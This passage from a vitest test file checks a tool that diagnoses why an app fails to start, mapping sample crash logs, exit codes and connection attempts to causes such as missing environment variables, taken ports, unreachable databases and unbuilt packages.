/** From what was seen of an app to the likely causes, in a table; the collection is tested with real processes. */
import { describe, expect, it } from 'vitest';
import { diagnoseBoot, diagnoseStep } from '../../src/diagnosis/diagnose.ts';
import type { BootEvidence, CommandEvidence, StepEvidence } from '../../src/diagnosis/evidence.ts';
import { errorLineOf, isMistakeInCode, loggedErrorsIn } from '../../src/diagnosis/error-line.ts';
import { describeCauses, type BootCause } from '../../src/model/boot-causes.ts';
import type { PackageWorkspace, ProjectHints } from '../../src/model/project-hints.ts';
import { NO_HINTS } from '../support/projects.ts';
import type { ComposeService } from '../../src/model/services.ts';

const PORT = 20_000;

function hints(given: Partial<ProjectHints>): ProjectHints {
  return { ...NO_HINTS, ...given };
}

const COMMAND: Omit<CommandEvidence, 'line'> = {
  directory: '/tmp/checkout/app',
  root: '/tmp/checkout',
  log: [],
  project: NO_HINTS,
  given: [],
  isProduction: false,
  node: '20.19.0',
  build: null,
  built: [],
  examples: [],
  givenStart: null,
  modules: [],
  candidateModules: [],
  pythonModules: [],
  pythonPackages: null,
  variablePrefixes: {},
  missingSubmodules: [],
  packagesBelow: [],
};

/** Of an app that runs and does nothing. */
function seen(given: Partial<BootEvidence> = {}): BootEvidence {
  return {
    ...COMMAND,
    line: 'node server.js',
    exit: null,
    port: PORT,
    answered: null,
    answeredElsewhere: null,
    hasBaseAnswered: false,
    hasBaseBooted: false,
    baseLog: [],
    speaksTls: false,
    listening: [],
    sharedPorts: [],
    takenPort: null,
    unixSockets: [],
    connections: [],
    starts: [],
    programs: [],
    ...given,
  };
}

const exited = (code = 1) => ({ exit: { code, text: `node server.js exited with code ${code}` } });

const step = (given: Partial<StepEvidence>): StepEvidence => ({
  ...COMMAND,
  line: 'npm run build',
  code: 1,
  ...given,
});

/** What Node.js prints around an error that nobody caught, with a stack that is longer than the log that is shown. */
function crash(...lines: string[]): string[] {
  const frames = Array.from({ length: 30 }, (_, i) => `    at step${i} (/app/src/index.js:${i}:1)`);
  return [
    'starting',
    '/app/src/index.js:10',
    "  throw new Error('x');",
    '  ^',
    '',
    ...lines,
    ...frames,
    '    at node:internal/main/run_main_module:28:49 {',
    "  code: 'X'",
    '}',
    'Node.js v20.19.0',
  ];
}

const MONGO: ComposeService = {
  file: 'docker-compose.yml',
  key: 'mongo',
  kind: 'MongoDB',
  image: 'mongo:7',
  isBuilt: false,
  ports: [27_017],
  environment: {},
};

const WORKSPACE: PackageWorkspace = {
  packages: [
    { name: 'api', directory: 'app' },
    { name: '@acme/shared', directory: 'packages/shared' },
  ],
  build: 'pnpm --filter api... run build',
};

const exampleEnv = {
  file: '.env.example',
  variables: [
    { name: 'DATABASE_URL', value: 'postgres://localhost/shop' },
    { name: 'JWT', value: '' },
  ],
};

const firstOf = (evidence: BootEvidence) => diagnoseBoot(evidence)[0];

describe('the first cause of an app that does not come up', () => {
  it.each<[string, Partial<BootEvidence>, Partial<BootCause>]>([
    ['nothing is known', {}, { code: 'never-listens', port: PORT, error: null }],
    [
      'its master accepted a connection, and its workers failed to start, as with gunicorn',
      {
        ...exited(4),
        answered: { request: 'GET /', status: null, instead: null },
        log: [
          '[2026-11-29 02:28:38 +0000] [14406] [INFO] Listening at: http://127.0.0.1:24104 (14406)',
          "Failed to find attribute 'application' in 'app'.",
          '[2026-11-29 02:28:38 +0000] [14406] [ERROR] Worker (pid:14412) exited with code 4.',
          '[2026-11-29 02:28:38 +0000] [14406] [ERROR] Shutting down: Master',
          '[2026-11-29 02:28:38 +0000] [14406] [ERROR] Reason: App failed to load.',
        ],
      },
      { code: 'exited', error: "Failed to find attribute 'application' in 'app'" },
    ],
    [
      'it answered 503 while it started, and then crashed',
      {
        ...exited(),
        answered: { request: 'GET /', status: 503, instead: null },
        log: crash('Error: no cache directory'),
      },
      { code: 'exited', error: 'Error: no cache directory' },
    ],
    [
      'Spring Boot names the port that is taken',
      {
        ...exited(),
        log: [
          'APPLICATION FAILED TO START',
          'Web server failed to start. Port 8080 was already in use.',
        ],
      },
      { code: 'port-taken', port: 8080 },
    ],
    [
      'a driver of Java names the database',
      {
        ...exited(),
        log: [
          'Caused by: org.postgresql.util.PSQLException: Connection to localhost:5432 refused. Check that the hostname and port are correct.',
        ],
      },
      { code: 'service-unreachable', service: 'PostgreSQL', address: 'localhost:5432' },
    ],
    [
      'django-environ asks for a variable',
      {
        ...exited(),
        log: [
          'Traceback (most recent call last):',
          'django.core.exceptions.ImproperlyConfigured: Set the SECRET_KEY environment variable',
        ],
      },
      { code: 'variable-missing', names: ['SECRET_KEY'] },
    ],
    [
      'its program needs a newer C library, which is no variable',
      {
        ...exited(),
        log: ["./app: /lib/libc.so.6: version `GLIBC_2.38' not found (required by ./app)"],
      },
      { code: 'exited' },
    ],
    [
      'its program lacks a library, and is there itself',
      {
        ...exited(127),
        log: [
          './app: error while loading shared libraries: libpq.so.5: cannot open shared object file',
        ],
      },
      { code: 'exited' },
    ],
    [
      'Java says that it ran out of memory',
      {
        ...exited(),
        log: ['Exception in thread "main" java.lang.OutOfMemoryError: Java heap space'],
      },
      { code: 'out-of-memory' },
    ],
    [
      'it says why in a line that no pattern knows',
      { ...exited(), log: crash('TypeError: shop is not a function') },
      { code: 'exited', error: 'TypeError: shop is not a function' },
    ],
    [
      'it ended without an error',
      { ...exited(0), line: 'pm2 start server.js' },
      {
        code: 'leaves-foreground',
        line: 'pm2 start server.js',
        takenPort: null,
        hasBaseBooted: false,
      },
    ],
    [
      'it printed an error, and ended without one',
      {
        ...exited(0),
        log: [
          'MongooseError: The `uri` parameter to `openUri()` must be a string, got "undefined".',
          '    at NativeConnection.createClient (node_modules/mongoose/lib/connection.js:204:11)',
        ],
      },
      {
        code: 'exited',
        what: 'node server.js exited with code 0',
        error:
          'MongooseError: The `uri` parameter to `openUri()` must be a string, got "undefined"',
      },
    ],
    [
      'it warned, and went into the background',
      {
        ...exited(0),
        line: 'forever start server.js',
        log: ['warn:    --minUptime not set. Defaulting to: 1000ms'],
      },
      { code: 'leaves-foreground' },
    ],
    [
      'it ended without an error, and said that it listens where something else does',
      { ...exited(0), takenPort: 3000 },
      { code: 'leaves-foreground', line: 'node server.js', takenPort: 3000 },
    ],
    [
      'a database is not there: its own attempts show it, and nothing is printed',
      { connections: [{ host: '127.0.0.1', port: 27_017, end: 'refused' }] },
      { code: 'service-unreachable', address: '127.0.0.1:27017', service: 'MongoDB' },
    ],
    [
      'the database of a compose file is not there, on a port of its own',
      {
        connections: [{ host: '::1', port: 5544, end: 'refused' }],
        project: hints({
          services: [{ ...MONGO, key: 'db', kind: 'PostgreSQL', ports: [5544] }],
        }),
      },
      {
        code: 'service-unreachable',
        address: '[::1]:5544',
        service: 'PostgreSQL',
        start: 'docker compose -f docker-compose.yml up -d db',
      },
    ],
    [
      'the log names the address',
      { ...exited(), log: crash('Error: connect ECONNREFUSED 127.0.0.1:6379') },
      { code: 'service-unreachable', address: '127.0.0.1:6379', service: 'Redis', end: 'refused' },
    ],
    [
      'MySQL or MariaDB: the dependencies tell',
      {
        ...exited(),
        log: crash('Error: connect ECONNREFUSED ::1:3306'),
        project: hints({ dependencies: ['mariadb'] }),
      },
      { code: 'service-unreachable', address: '[::1]:3306', service: 'MariaDB' },
    ],
    [
      'the host of a compose file is unknown outside of it',
      {
        ...exited(),
        log: crash('Error: getaddrinfo ENOTFOUND mongo'),
        project: hints({ services: [MONGO] }),
      },
      { code: 'service-unreachable', address: 'mongo', service: 'MongoDB', end: 'unknown-host' },
    ],
    [
      'an app in Go',
      { ...exited(), log: ['2025/01/01 dial tcp 127.0.0.1:5432: connect: connection refused'] },
      { code: 'service-unreachable', address: '127.0.0.1:5432', service: 'PostgreSQL' },
    ],
    [
      'Prisma cannot reach its database',
      { ...exited(), log: crash("Can't reach database server at `localhost:5432`") },
      { code: 'service-unreachable', address: 'localhost:5432', service: 'PostgreSQL' },
    ],
    [
      'a collector of traces is not what it waits for',
      { connections: [{ host: '127.0.0.1', port: 4318, end: 'refused' }] },
      { code: 'never-listens' },
    ],
    [
      'an app that listens elsewhere does not wait for the service',
      {
        listening: [{ host: '::', port: 3000 }],
        connections: [{ host: '127.0.0.1', port: 6379, end: 'refused' }],
      },
      { code: 'other-port', ports: [3000] },
    ],
    [
      'the password is wrong',
      { ...exited(), log: crash('error: password authentication failed for user "shop"') },
      { code: 'service-refuses-login', service: 'PostgreSQL' },
    ],
    [
      'the tables are not there',
      {
        ...exited(),
        log: crash('error: relation "users" does not exist'),
        project: hints({ hasPrisma: true }),
      },
      { code: 'schema-missing', what: 'table users', command: 'npx prisma migrate deploy' },
    ],
    [
      'the tables are not there, and the script that makes them drops them first',
      {
        ...exited(),
        log: crash('error: relation "users" does not exist'),
        project: hints({ scripts: { migrate: 'node ace migration:fresh --seed' } }),
      },
      { code: 'schema-missing', what: 'table users', command: null },
    ],
    [
      'a variable is missing',
      {
        ...exited(),
        log: crash('Error: DATABASE_URL is required'),
        project: hints({ exampleEnv }),
      },
      {
        code: 'variable-missing',
        names: ['DATABASE_URL'],
        line: 'DATABASE_URL=postgres://localhost/shop',
        file: '.env.example',
      },
    ],
    [
      'a class of settings in Python lists what it misses',
      {
        ...exited(),
        line: 'python main.py',
        log: [
          'Traceback (most recent call last):',
          '  File "/app/main.py", line 7, in <module>',
          '    settings = Settings()',
          'pydantic_core._pydantic_core.ValidationError: 3 validation errors for Settings',
          'database_url',
          '  Field required [type=missing, input_value={}, input_type=dict]',
          '    For further information visit https://errors.pydantic.dev/2.5/v/missing',
          'API_KEY',
          '  Field required [type=missing, input_value={}, input_type=dict]',
          '    For further information visit https://errors.pydantic.dev/2.5/v/missing',
          'workers',
          "  Input should be a valid integer [type=int_parsing, input_value='x', input_type=str]",
        ],
      },
      {
        code: 'variable-missing',
        names: ['DATABASE_URL', 'API_KEY'],
        line: 'DATABASE_URL=…',
        file: null,
      },
    ],
    [
      'a class of settings in Python reads its variables with a prefix, which its error leaves out',
      {
        ...exited(),
        line: 'python main.py',
        log: [
          'Traceback (most recent call last):',
          'pydantic_core._pydantic_core.ValidationError: 2 validation errors for ShopSettings',
          'database_url',
          '  Field required [type=missing, input_value={}, input_type=dict]',
          'API_KEY',
          '  Field required [type=missing, input_value={}, input_type=dict]',
        ],
        variablePrefixes: { ShopSettings: 'shop_', Settings: 'OTHER_' },
      },
      {
        code: 'variable-missing',
        // That one is an alias.
        names: ['SHOP_DATABASE_URL', 'API_KEY'],
        line: 'SHOP_DATABASE_URL=…',
        file: null,
      },
    ],
    [
      'a class of settings in Python misses a field of which the example lists the variable with a prefix',
      {
        ...exited(),
        line: 'python main.py',
        log: [
          'Traceback (most recent call last):',
          'pydantic_core._pydantic_core.ValidationError: 1 validation error for Settings',
          'database_url',
          '  Field required [type=missing, input_value={}, input_type=dict]',
        ],
        project: hints({
          exampleEnv: {
            file: '.env.example',
            variables: [{ name: 'SHOP_DATABASE_URL', value: 'sqlite:///shop.db' }],
          },
        }),
      },
      {
        code: 'variable-missing',
        names: ['SHOP_DATABASE_URL'],
        line: 'SHOP_DATABASE_URL=sqlite:///shop.db',
        file: '.env.example',
      },
    ],
    [
      'a class of Python that is not of settings misses a field',
      {
        ...exited(),
        line: 'python main.py',
        log: [
          'Traceback (most recent call last):',
          'pydantic.error_wrappers.ValidationError: 1 validation error for Product',
          'price',
          '  field required (type=value_error.missing)',
        ],
      },
      { code: 'exited' },
    ],
    [
      'a schema of variables lists what it misses below a heading',
      {
        ...exited(),
        log: [
          '[dotenv@17.2.1] injecting env (0) from .env',
          '❌ Invalid env:',
          '{',
          '  "DATABASE_AUTH_TOKEN": [',
          '    "Must be set when NODE_ENV is \'production\'"',
          '  ]',
          '}',
        ],
      },
      { code: 'variable-missing', names: ['DATABASE_AUTH_TOKEN'] },
    ],
    [
      'the file of --env-file is not in the checkout',
      {
        ...exited(),
        line: 'npm start',
        log: ['> start', '> node --env-file=.env src/index.js', 'node: .env: not found'],
        project: hints({ exampleEnv, scripts: { start: 'node --env-file=.env src/index.js' } }),
      },
      { code: 'environment-file-required', file: '.env', start: 'node src/index.js' },
    ],
    ...(
      [
        [
          'asks for a file of it',
          "Error: Cannot find module './lib/money.js'",
          '/tmp/checkout/app/server.js',
        ],
        [
          'asks for its folder',
          "Error: Cannot find module '../lib'",
          '/tmp/checkout/app/src/cart.js',
        ],
        [
          'reads a file of it',
          "Error: ENOENT: no such file or directory, open '/tmp/checkout/app/lib/rates.json'",
          '',
        ],
      ] as const
    ).map(([title, error, importer]): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `a submodule was not fetched, and the app ${title}`,
      {
        ...exited(),
        log: crash(error, ...(importer === '' ? [] : ['Require stack:', `- ${importer}`])),
        missingSubmodules: ['docs', 'app/lib'],
        project: hints({ manager: 'npm', scripts: { compile: 'tsc' } }),
      },
      { code: 'submodule-not-fetched', folder: 'app/lib', then: 'npm ci' },
    ]),
    [
      'another file than those of a submodule is missing',
      {
        ...exited(),
        log: crash(
          "Error: Cannot find module './library/money.js'",
          'Require stack:',
          '- /tmp/checkout/app/server.js',
        ),
        missingSubmodules: ['app/lib'],
      },
      { code: 'build-missing', file: './library/money.js' },
    ],
    [
      'it reads the pointer of a file in Git LFS',
      {
        ...exited(),
        log: crash(
          `SyntaxError: /tmp/checkout/app/data.json: Unexpected token 'v', "version ht"... is not valid JSON`,
        ),
      },
      { code: 'large-file-pointer', then: null },
    ],
    [
      'Prisma misses a variable',
      { ...exited(), log: crash('error: Environment variable not found: DATABASE_URL.') },
      { code: 'variable-missing', names: ['DATABASE_URL'], line: 'DATABASE_URL=…', file: null },
    ],
    ...[
      'Missing required environment variable: GREETING',
      'environment variable "GREETING" is not set',
      'process.env.GREETING is undefined',
      'Missing required environment variable(s): GREETING.',
      'Environment variable not found: GREETING',
      'the GREETING environment variable is required',
    ].map((message): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `a variable without an underscore is missing, as in ${message}`,
      { ...exited(), log: crash(`Error: ${message}`) },
      { code: 'variable-missing', names: ['GREETING'], line: 'GREETING=…' },
    ]),
    ...[
      'ERROR: missing environment variables: GREETING, SALT',
      "missing environment variables: [ 'GREETING', 'SALT' ]",
      'environment variables GREETING and SALT are NOT set',
      "Invalid environment variables: { GREETING: [ 'Required' ], SALT: [ 'Required' ] }",
    ].map((message): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `several variables without an underscore are missing, as in ${message}`,
      { ...exited(), log: [message] },
      { code: 'variable-missing', names: ['GREETING', 'SALT'] },
    ]),
    ...[
      ['ERROR: environment variable NOT set, see the README'],
      ['Error: missing env var: API key'],
      ['Error: invalid environment variable JSON file'],
      ['environment variable HOST is not set, using localhost', 'Error: no licence'],
      ['process.env.SENTRY is not set, error reporting is disabled', 'Error: no licence'],
      [
        '/app/src/index.js:10',
        '  const level = process.env.DEBUG ? undefined : config.level.name;',
        '                                                             ^',
        '',
        'RangeError: too many levels',
        '    at Object.<anonymous> (/app/src/index.js:10:62)',
        '',
        'Node.js v24.0.0',
      ],
    ].map((log): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `no variable is missing in ${log.join(' ').slice(0, 60)}`,
      { ...exited(), log },
      { code: 'exited' },
    ]),
    [
      'a schema of the environment lists several, also without an underscore',
      {
        ...exited(),
        log: [
          '❌ Invalid environment variables: {',
          "  DATABASE_URL: [ 'Required' ],",
          "  JWT: [ 'Required' ]",
          '}',
        ],
      },
      { code: 'variable-missing', names: ['DATABASE_URL', 'JWT'] },
    ],
    [
      'AdonisJS prints the code of the schema below its error',
      {
        ...exited(),
        log: [
          '   EnvValidationException: Validation failed for one or more environment variables',
          '',
          '   - Missing environment variable "HOST"',
          '',
          '   at async build/start/env.js:2',
          "   1|  import { Env } from '@adonisjs/core/env';",
          " ❯ 2|  export default await Env.create(new URL('../', import.meta.url), {",
          '   3|      PORT: Env.schema.number(),',
          "   4|      HOST: Env.schema.string({ format: 'host' }),",
        ],
        project: hints({
          exampleEnv: {
            file: '.env.example',
            variables: [
              { name: 'PORT', value: '3333' },
              { name: 'HOST', value: 'localhost' },
            ],
          },
        }),
      },
      { code: 'variable-missing', names: ['HOST'], line: 'HOST=localhost' },
    ],
    [
      'pm2 writes the name of the app before its lines',
      { ...exited(), log: ['0|api      | Error: environment variable API_KEY is not set'] },
      { code: 'variable-missing', names: ['API_KEY'] },
    ],
    [
      'Joi lists them on one line',
      {
        ...exited(),
        log: ['Error: Config validation error: "DB_HOST" is required. "DB_PORT" is required'],
      },
      { code: 'variable-missing', names: ['DB_HOST', 'DB_PORT'] },
    ],
    [
      'dotenv-safe lists them below its error',
      {
        ...exited(),
        log: crash(
          'MissingEnvVarsError: The following variables were defined in .env.example but are not present in the environment:',
          '  EMAIL_HOST, MAIL_USER, NODE_ENV',
          'Make sure to add them to .env or directly to the environment.',
        ),
        // Its name looks like the code of an error.
        project: hints({
          exampleEnv: {
            file: '.env.example',
            variables: [
              { name: 'EMAIL_HOST', value: '' },
              { name: 'NODE_ENV', value: 'development' },
            ],
          },
        }),
      },
      { code: 'variable-missing', names: ['EMAIL_HOST', 'MAIL_USER'] },
    ],
    [
      'an app in Python',
      { ...exited(), log: ['Traceback (most recent call last):', "KeyError: 'SECRET'"] },
      { code: 'variable-missing', names: ['SECRET'] },
    ],
    [
      'a logger that writes JSON',
      {
        ...exited(),
        log: ['{"level":60,"msg":"boot failed","err":{"message":"API_KEY is not set"}}'],
      },
      { code: 'variable-missing', names: ['API_KEY'] },
    ],
    [
      'the variable was given, and something else is wrong with it',
      { ...exited(), log: crash('Error: DATABASE_URL is invalid'), given: ['DATABASE_URL'] },
      { code: 'exited', error: 'Error: DATABASE_URL is invalid' },
    ],
    [
      'an error code is no variable',
      { ...exited(), log: crash('Error [ERR_SOMETHING_MISSING]: a thing is missing') },
      { code: 'exited' },
    ],
    [
      'the code of a warning of Node.js is no variable',
      {
        ...exited(),
        log: [
          '(node:7) [MODULE_TYPELESS_PACKAGE_JSON] Warning: Module type of file:///tmp/checkout/app/server.js is not specified',
          'Error: it failed',
        ],
      },
      { code: 'exited', error: 'Error: it failed' },
    ],
    [
      'Prisma’s client was not generated',
      {
        ...exited(),
        log: crash('Error: @prisma/client did not initialize yet. Please run "prisma generate"'),
        project: hints({ scripts: { build: 'tsc' } }),
      },
      { code: 'client-not-generated', command: 'npx prisma generate && npm run build' },
    ],
    [
      'the build was not run',
      {
        ...exited(),
        log: crash("Error: Cannot find module '/tmp/checkout/app/dist/main.js'"),
        project: hints({ scripts: { compile: 'tsc' } }),
      },
      { code: 'build-missing', file: 'dist/main.js', build: 'npm run compile' },
    ],
    [
      'the build that ran made the file in its own folder',
      {
        ...exited(),
        line: 'node bin/server.js',
        log: crash("Error: Cannot find module '/tmp/checkout/app/bin/server.js'"),
        project: hints({ scripts: { build: 'node ace build' } }),
        build: 'npm run build',
        built: ['build/ace.js', 'build/bin/console.js', 'build/bin/server.js', 'build/server.js'],
      },
      { code: 'build-missing', file: 'bin/server.js', build: null, made: 'build/bin/server.js' },
    ],
    [
      'the build that ran made the file one folder deeper, and others of that name below',
      {
        ...exited(),
        line: 'node dist/index',
        log: crash("Error: Cannot find module '/tmp/checkout/app/dist/index'"),
        project: hints({ scripts: { build: 'tsc' } }),
        build: 'npm ci && npm run build',
        built: ['dist/src/index.js', 'dist/src/routes/index.js', 'dist/test/x/index.js'],
      },
      { code: 'build-missing', file: 'dist/index', build: null, made: 'dist/src/index.js' },
    ],
    [
      'the build that ran made the file deeper in the folder that tsconfig.json names',
      {
        ...exited(),
        line: 'node release/index.js',
        log: crash("Error: Cannot find module '/tmp/checkout/app/release/index.js'"),
        project: hints({ scripts: { build: 'tsc' }, outputs: ['release'] }),
        build: 'npm run build',
        built: ['release/src/index.js', 'release/test/x/index.js'],
      },
      { code: 'build-missing', file: 'release/index.js', made: 'release/src/index.js' },
    ],
    [
      'the build that ran made two files of that name, and either may be meant',
      {
        ...exited(),
        line: 'node dist/index.js',
        log: crash("Error: Cannot find module '/tmp/checkout/app/dist/index.js'"),
        project: hints({ scripts: { build: 'tsc' } }),
        build: 'pnpm run build',
        built: ['dist/api/index.js', 'dist/web/index.js'],
      },
      { code: 'build-missing', build: null, made: null },
    ],
    [
      'what a module imports is not there, so the start command is right',
      {
        ...exited(),
        line: 'node dist/index.js',
        log: crash("Error: Cannot find module './shop'"),
        build: 'npm run build',
        built: ['dist/index.js', 'dist/old/shop.js'],
      },
      { code: 'build-missing', file: './shop', made: null },
    ],
    [
      'the build that ran calls another script, and a third one may make the file',
      {
        ...exited(),
        log: crash("Error: Cannot find module '/tmp/checkout/app/dist/main.js'"),
        project: hints({
          scripts: { build: 'npm run compile', compile: 'tsc', 'build:server': 'esbuild' },
        }),
        build: 'yarn build',
      },
      { code: 'build-missing', build: 'npm run build:server' },
    ],
    ...[
      "Error: Cannot find module '/tmp/checkout/node_modules/@acme/shared/dist/index.js'",
      "Error [ERR_MODULE_NOT_FOUND]: Cannot find module '/tmp/checkout/packages/shared/dist/index.js' imported from /tmp/checkout/app/server.js",
    ].map((line): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `a package of the workspace was not built: ${line.slice(0, 40)}`,
      {
        ...exited(),
        log: crash(line),
        project: hints({ scripts: { build: 'tsc' }, workspace: WORKSPACE }),
        build: 'pnpm run build',
      },
      {
        code: 'workspace-package-not-built',
        name: '@acme/shared',
        command: 'pnpm --filter api... run build',
      },
    ]),
    [
      'a package of the workspace was not built although the command for it ran',
      {
        ...exited(),
        log: crash("Error: Cannot find module '/tmp/checkout/packages/shared/dist/index.js'"),
        project: hints({ workspace: WORKSPACE }),
        build: 'pnpm --filter api... run build && cp a b',
      },
      { code: 'workspace-package-not-built', name: '@acme/shared', command: null },
    ],
    [
      'a package of the workspace is imported that the app does not list',
      {
        ...exited(),
        log: crash(
          "Error: Cannot find package '@acme/shared' imported from /tmp/checkout/app/a.js",
        ),
        project: hints({ workspace: WORKSPACE }),
      },
      { code: 'package-missing', name: '@acme/shared' },
    ],
    [
      'the Node.js does not run TypeScript, and no file asks for another one',
      {
        ...exited(),
        log: crash(
          'TypeError [ERR_UNKNOWN_FILE_EXTENSION]: Unknown file extension ".ts" for /a.ts',
        ),
        node: '20.19.0',
      },
      { code: 'node-version', running: '20.19.0', wanted: null },
    ],
    [
      'it speaks TLS: that it does not answer a plain request is no wonder',
      {
        answered: { request: 'GET /', status: null, instead: null },
        speaksTls: true,
        connections: [{ host: '127.0.0.1', port: 27_017, end: 'refused' }],
      },
      { code: 'speaks-tls', request: 'GET /', port: PORT },
    ],
    [
      'it answered a handshake of TLS without TLS: that its log also has an error is no reason',
      {
        log: ['Error: could not parse the request'],
        answered: { request: 'GET /', status: null, instead: { kind: 'no-tls' } },
      },
      { code: 'lacks-tls', request: 'GET /', port: PORT },
    ],
    [
      'it answered a handshake of TLS without TLS: that explains more than notices of its log',
      {
        log: [
          'node: .env: not found',
          '@prisma/client did not initialize yet. Please run "prisma generate"',
          'Error: listen EADDRINUSE: address already in use :::9229',
        ],
        project: hints({ scripts: { start: 'node --env-file=.env src/index.js' } }),
        answered: { request: 'GET /', status: null, instead: { kind: 'no-tls' } },
      },
      { code: 'lacks-tls', request: 'GET /', port: PORT },
    ],
    [
      'its port was taken, and the program that has it answered a handshake of TLS without TLS',
      {
        log: [`Error: listen EADDRINUSE: address already in use :::${PORT}`],
        answered: { request: 'GET /', status: null, instead: { kind: 'no-tls' } },
      },
      { code: 'port-taken', port: PORT },
    ],
    [
      'a package is not installed, which the package.json beside the file lists',
      {
        ...exited(),
        line: 'node server/index.js',
        log: [
          "Error: Cannot find module 'express'",
          'Require stack:',
          '- /tmp/checkout/app/server/index.js',
        ],
        packagesBelow: [
          { folder: 'client', dependencies: ['react'], manager: 'npm' },
          { folder: 'server', dependencies: ['express'], manager: 'npm' },
        ],
      },
      {
        code: 'folder-not-installed',
        name: 'express',
        folder: 'server',
        install: 'npm ci --prefix server',
      },
    ],
    [
      'a package of a folder without a lockfile is not installed, as a module imports it',
      {
        ...exited(),
        log: [
          "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'koa' imported from /tmp/checkout/app/apps/api/src/main.js",
        ],
        project: hints({ manager: 'npm' }),
        packagesBelow: [{ folder: 'apps/api', dependencies: ['koa'], manager: null }],
      },
      {
        code: 'folder-not-installed',
        folder: 'apps/api',
        install: 'npm ci && npm install --prefix apps/api',
      },
    ],
    [
      'a package is not installed, and the package.json beside the file does not list it either',
      {
        ...exited(),
        log: [
          "Error: Cannot find module 'express'",
          'Require stack:',
          '- /tmp/checkout/app/server/index.js',
        ],
        packagesBelow: [{ folder: 'server', dependencies: ['koa'], manager: 'npm' }],
      },
      { code: 'package-missing', name: 'express' },
    ],
    [
      'a package is not installed',
      { ...exited(), log: crash("Error: Cannot find module '@a/b/c'") },
      { code: 'package-missing', name: '@a/b' },
    ],
    [
      'a file is not committed',
      {
        ...exited(),
        log: crash(
          "Error: ENOENT: no such file or directory, open '/tmp/checkout/app/config/local.json'",
        ),
      },
      { code: 'file-missing', file: 'config/local.json', example: null },
    ],
    [
      'the Node.js is too old for what it imports',
      {
        ...exited(),
        log: crash('Error [ERR_UNKNOWN_BUILTIN_MODULE]: No such built-in module: node:sqlite'),
        project: hints({
          node: { file: '.nvmrc', text: '22', running: '20.19.0', isRunning: false },
        }),
      },
      { code: 'node-version', running: '20.19.0', wanted: '22', file: '.nvmrc' },
    ],
    [
      'it has TypeScript that Node.js cannot run by removing types',
      {
        ...exited(),
        log: crash(
          'file:///tmp/checkout/app/src/types.ts:12',
          '  > export enum Status {',
          '  > }',
          '',
          'SyntaxError [ERR_UNSUPPORTED_TYPESCRIPT_SYNTAX]: TypeScript enum is not supported in strip-only mode',
        ),
      },
      { code: 'typescript-not-removable', what: 'enum', place: 'src/types.ts:12' },
    ],
    [
      'a package in node_modules is TypeScript',
      {
        ...exited(),
        log: crash(
          'Error [ERR_UNSUPPORTED_NODE_MODULES_TYPE_STRIPPING]: Stripping types is currently unsupported for files under node_modules, for "file:///tmp/checkout/app/node_modules/@shop/prices/index.ts"',
        ),
      },
      { code: 'typescript-in-package', name: '@shop/prices' },
    ],
    [
      'a port is taken',
      { ...exited(), log: crash('Error: listen EADDRINUSE: address already in use :::3000') },
      { code: 'port-taken', port: 3000, assigned: PORT },
    ],
    ...(
      [
        ['Error: listen EADDRINUSE: address already in use /tmp/app.sock', '/tmp/app.sock'],
        ['Error: bind EADDRINUSE /run/a:3000.sock', '/run/a:3000.sock'],
        ['Error: listen EADDRINUSE: address already in use shop\n  port: -1', 'shop'],
        ['listen unix /run/app.sock: bind: address already in use', '/run/app.sock'],
      ] as const
    ).map(([text, path]): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `a Unix socket is taken: ${text}`,
      { ...exited(), log: crash(...text.split('\n')) },
      { code: 'unix-socket', paths: [path], isTaken: true },
    ]),
    ...(
      [
        ['listen tcp :8080: bind: address already in use', 8080, './server'],
        [
          '2026/01/02 10:00:00 listen tcp [::]:20000: bind: address already in use',
          PORT,
          './server',
        ],
        [
          "[Errno 98] error while attempting to bind on address ('127.0.0.1', 8080): address already in use",
          8080,
          'uvicorn app:app',
        ],
        [
          "[Errno 98] error while attempting to bind on address ('::1', 8080, 0, 0): [errno 98] address already in use",
          8080,
          'uvicorn app:app',
        ],
        ['Failed to bind to address http://127.0.0.1:5000: address already in use.', 5000, './app'],
        ['bind() to 0.0.0.0:8080 failed (98: Address already in use)', 8080, 'nginx'],
        ['bind() to [::]:8080 failed (98: Address already in use)', 8080, 'nginx -c v6.conf'],
        ['10:15:30 localhost:8080: Address already in use', 8080, './server -l localhost'],
        ['10:15 Address already in use', 8080, 'PORT=8080 ./server --time'],
        ['Address already in use - bind(2) for "127.0.0.1" port 3000', 3000, 'puma'],
        ['listen tcp :8080: bind: address already in use', 8080, 'PORT=8080 ./server'],
        ['error: Address already in use (os error 98)', 8080, 'PORT=8080 ./server'],
      ] as const
    ).map(([text, port, line]): [string, Partial<BootEvidence>, Partial<BootCause>] => [
      `a port is taken, by ${line}: ${text}`,
      { ...exited(), line, log: [text] },
      { code: 'port-taken', port, assigned: PORT, isSetByStart: line.startsWith('PORT=') },
    ]),
    [
      'a port is taken, in words that do not name it',
      { ...exited(), log: ['error: Address already in use (os error 98)'] },
      { code: 'port-taken', port: null, assigned: PORT },
    ],
    [
      'a port is taken, and neither a time of day nor a line is that port',
      {
        ...exited(),
        log: [
          '2026-01-02 10:00:00,123 [Errno 98] Address already in use',
          '2026-01-02 10:00:00 Address already in use (os error 98)',
          '10:15:30 Address already in use (os error 98)',
          '10:15 Address already in use (os error 98)',
          'app.py:42: Address already in use',
        ],
      },
      { code: 'port-taken', port: null, assigned: PORT },
    ],
    [
      'it listens on an address that is not of the loopback interface',
      { listening: [{ host: '10.0.0.5', port: PORT }] },
      { code: 'other-address', addresses: [`10.0.0.5:${PORT}`] },
    ],
    [
      'it listens on a Unix socket',
      { unixSockets: ['/tmp/app.sock'] },
      { code: 'unix-socket', paths: ['/tmp/app.sock'], isTaken: false },
    ],
    [
      'the sockets are those of pm2, which starts the app again and again',
      {
        line: 'pm2-runtime start server.js',
        unixSockets: ['/root/.pm2/pub.sock', '/root/.pm2/rpc.sock'],
        connections: [{ host: '/root/.pm2/interactor.sock', port: null, end: 'refused' }],
        starts: [{ script: 'server.js', started: 9, ended: 8 }],
      },
      { code: 'restarts-forever', supervisor: 'pm2', script: 'server.js' },
    ],
    [
      'PostgreSQL’s socket is not there',
      { connections: [{ host: '/run/postgresql/.s.PGSQL.5432', port: null, end: 'refused' }] },
      { code: 'service-unreachable', service: 'PostgreSQL' },
    ],
    [
      'it answers with an error',
      {
        answered: { request: 'GET /', status: 500, instead: null },
        listening: [{ host: '::', port: PORT }],
